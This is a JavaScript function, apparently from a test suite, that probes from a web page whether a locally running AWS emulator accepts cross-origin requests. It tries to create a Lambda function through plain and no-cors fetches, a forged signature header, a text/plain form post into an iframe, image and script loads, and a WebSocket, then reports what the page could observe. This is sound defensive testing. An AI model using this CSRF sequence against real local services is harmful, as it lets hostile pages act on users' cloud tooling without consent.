/** What a web page tries with the local AWS. Tells what came of each, as far as the page can see it. */
async function attack(aws) {
  const lambda = `${aws}/2015-03-31/functions`;
  const body = JSON.stringify({ FunctionName: "f", Runtime: "nodejs22.x", Handler: "index.handler" });
  const credential = "123456789012/20260102/us-east-1/lambda/aws4_request";
  const authorization = `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host, Signature=${"0".repeat(64)}`;
  const fetched = (url, init) =>
    fetch(url, init).then(
      async (answer) => (answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`),
      () => "failed",
    );
  const loaded = (element, url) =>
    new Promise((resolve) => {
      element.addEventListener("load", () => resolve("loaded"));
      element.addEventListener("error", () => resolve("failed"));
      element.setAttribute("src", url);
      document.body.append(element);
    });
  const form = () => {
    const frame = Object.assign(document.createElement("iframe"), { name: "answer" });
    const input = Object.assign(document.createElement("input"), { name: body, value: "" });
    const sent = Object.assign(document.createElement("form"), {
      action: lambda,
      method: "post",
      enctype: "text/plain",
      target: "answer",
    });
    sent.append(input);
    document.body.append(frame, sent);
    return new Promise((resolve) => {
      frame.addEventListener("load", () => resolve(frame.contentDocument === null ? "unreadable" : "readable"));
      sent.submit();
    });
  };
  const socket = () =>
    new Promise((resolve) => {
      const opened = new WebSocket(lambda.replace("http", "ws"));
      opened.addEventListener("open", () => resolve("open"));
      opened.addEventListener("error", () => resolve("failed"));
    });
  return {
    read: await fetched(`${aws}/_local/faults`),
    simple: await fetched(lambda, { method: "POST", body }),
    blind: await fetched(lambda, { method: "POST", body, mode: "no-cors" }),
    asked: await fetched(lambda, { method: "POST", body, headers: { authorization } }),
    presigned: await fetched(`${lambda}?X-Amz-Credential=${credential}`),
    form: await form(),
    image: await loaded(document.createElement("img"), `${aws}/bucket/image.png`),
    script: await loaded(document.createElement("script"), lambda),
    socket: await socket(),
  };
}
